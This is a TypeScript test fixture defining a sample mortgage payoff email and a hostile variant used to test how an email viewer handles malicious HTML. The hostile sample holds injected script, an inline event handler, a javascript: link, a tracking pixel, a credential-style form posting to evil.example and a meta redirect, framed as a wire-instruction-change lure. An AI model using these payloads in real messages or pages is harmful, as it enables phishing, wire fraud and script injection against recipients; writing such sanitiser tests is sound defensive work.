import type { EmailMessage } from './email.types.ts';

const dot =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** A payoff letter that came by mail: the sample of the stories and tests. */
export const payoff: EmailMessage = {
  from: 'payoffs@maplestreetsavings.example',
  to: ['closing@epsilontitle.example'],
  cc: ['escrow@epsilontitle.example', 'sarah@epsilontitle.example'],
  bcc: ['archive@epsilontitle.example'],
  subject: 'Payoff for loan 88-104422, file 12-3456',
  sent: '04/12/2013 9:02 AM',
  html: '<p>Good morning,</p><p>The payoff of loan <b>88-104422</b> through 04/16/2013 is <b>97,840.20</b>. Per diem after that date is 17.44.</p><table border="1" cellpadding="4"><tr><td>Principal</td><td align="right">97,512.06</td></tr><tr><td>Interest</td><td align="right">328.14</td></tr></table><p>Wire instructions are on <a href="https://maplestreetsavings.example/wire">our secure page</a>.</p><p><img src="cid:logo" alt="Maple Street Savings" width="16" height="16"></p>',
  attachments: [
    { name: 'Payoff letter 88-104422.pdf', size: 46_200, href: '#payoff-letter' },
    { name: 'W-9.pdf', size: 300 },
  ],
  pictures: { logo: dot },
};

/** What a hostile sender would try. */
export const hostile: EmailMessage = {
  ...payoff,
  subject: 'Wire instructions changed',
  html: '<script>parent.document.title="owned"</script><form action="https://evil.example"><input name="p"></form><p onclick="alert(1)">Please use the new account.</p><img src="https://evil.example/pixel.gif" alt="Bank logo"><a href="javascript:alert(1)">here</a><meta http-equiv="refresh" content="0;url=https://evil.example">',
};
